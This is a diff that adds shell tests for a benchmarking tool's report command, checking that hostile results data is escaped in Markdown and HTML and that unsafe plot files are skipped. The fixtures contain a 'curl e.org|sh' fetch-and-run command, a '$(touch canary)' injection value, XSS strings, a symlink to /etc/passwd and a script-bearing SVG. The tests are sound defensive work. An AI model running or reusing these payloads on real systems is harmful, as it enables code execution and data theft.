@@ -79,6 +79,67 @@ PYTHON
     ! grep -q '<' short.md || show
 }
 
+# hostile FOLDER: the kept record, whose texts are Markdown that would load, link, mention, end the table or the list, and whose command is a trap.
+hostile() {
+    mkdir "$1"
+    python3 - "$RECORD" >"$1/results.json" <<'PYTHON'
+import json, sys
+d = json.load(open(sys.argv[1]))
+evil = "![p](http://e.org/p.png) [l](javascript:x) <img src=x onerror=y> @user #1 www.e.org https://e.org `c` | \\a $x$ ~~s~~ __b__ *i* &lt; \n\n# h\n```\u202e"
+for k, t in enumerate(d["trials"]):
+    t["command"] = ["evenload run --mode single; curl e.org|sh", "evenload run --mode single --save /root/.bashrc", "evenload run --data '$(touch canary)' --mode single --model mlp"][k % 3]
+    t["model"] = t["mode"] = t["reason"] = evil
+    t["warnings"], t["warning_rules"] = ["- " + evil], ["x"]
+    for device in t["per_device"]: device["device"] = evil
+d["trials"].append(dict(d["trials"][0], status="failed"))
+json.dump(d, sys.stdout)
+PYTHON
+}
+
+@test "hostile Markdown is text: nothing is loaded, linked, mentioned or begun" {
+    hostile r
+    run --separate-stderr "$EVENLOAD" report r --markdown short.md
+    [[ $status -eq 0 ]] || show
+    python3 - <<'PYTHON' || { cat short.md && show; }
+import re
+text = open("short.md", encoding="utf-8").read()
+lines = text.split("\n")
+rows, items = [l for l in lines if l.startswith("| ")], [l for l in lines if l.startswith("- ")]
+assert len(rows) > 3 and len(items) > 2, lines
+assert all(re.match(r"$|### evenload: |\d+ trials|- |\| |\|--", l) for l in lines), lines
+pipes = {len(re.findall(r"(?<!\\)(?:\\\\)*\|", row)) for row in rows}
+assert len(pipes) == 1, pipes
+for foreign in items + [lines[0][4:]] + [c for row in rows[1:] for c in re.split(r"(?<!\\)\|", row)]:
+    left = re.sub(r"\\[!-/:-@\[-`{-~]|&(lt|gt|amp);", "", foreign)
+    assert not re.search(r"[\[\]()!|`~$@#<>&*_\\]|://|www\.|^- -", left), (foreign, left)
+assert not re.search(r"[@#][0-9A-Za-z]", text), text
+PYTHON
+}
+
+@test "the page's commands are of run, made from options, whatever the record has" {
+    hostile r
+    "$EVENLOAD" report r >/dev/null
+    ! grep -q 'curl\|bashrc' r/report.html || show
+    ! LC_ALL=C grep -qP '\xe2\x80\xae' r/report.html || show
+    grep -qF "<td class=\"left\">evenload run --mode single --model mlp --batch 64 --data '\$(touch canary)'</td>" r/report.html || show
+    [[ $(grep -c 'none: what the record names is no command of run' r/report.html) -ge 2 ]] || show
+}
+
+@test "pictures that are no SVG of the folder's own are left out, and nothing is waited for" {
+    cp -r "$REFERENCE" r
+    ln -sf /etc/passwd r/plots/memory.svg
+    rm r/plots/throughput.svg && mkfifo r/plots/throughput.svg
+    echo '<html><script>alert(1)</script></html>' >r/plots/step.svg
+    ln -sf "$REFERENCE/plots/imbalance.svg" r/plots/imbalance.svg # a link, if to a picture
+    { cat r/plots/utilization.svg && head -c 3000000 /dev/zero | tr '\0' ' '; } >large && mv large r/plots/utilization.svg
+    run --separate-stderr timeout 20 "$EVENLOAD" report r
+    [[ $status -eq 0 ]] || show
+    [[ $(grep -c 'Left out: it is no regular file' r/report.html) -eq 3 && $(grep -c 'Left out: it is no SVG' r/report.html) -eq 1 ]] || show
+    [[ $(grep -c 'Too large for this page' r/report.html) -eq 1 && $(grep -c 'alt="timeline"' r/report.html) -eq 1 ]] || show
+    rm r/plots/{memory,throughput,step,imbalance,utilization}.svg
+    parsed r/report.html r >/dev/null || show
+}
+
 @test "Markdown for a pull request: a row a trial; a summary that others write to is appended to" {
     cp -r "$REFERENCE" r
     echo before >summary.md
@@ -90,7 +151,7 @@ PYTHON
 @test "what is no run, and a folder that cannot be written" {
     refuses "report: which run? give its folder" "$EVENLOAD" report
     mkdir empty
-    refuses "empty/results.json could not be read: No such file" "$EVENLOAD" report empty
+    refuses "empty/results.json: No such file" "$EVENLOAD" report empty
     echo '{}' >empty/comm.json
     refuses "empty is a folder of 'evenload comm': report reads those of run, compare, scale, imbalance, data and explain" "$EVENLOAD" report empty
     cp -r "$REFERENCE" r
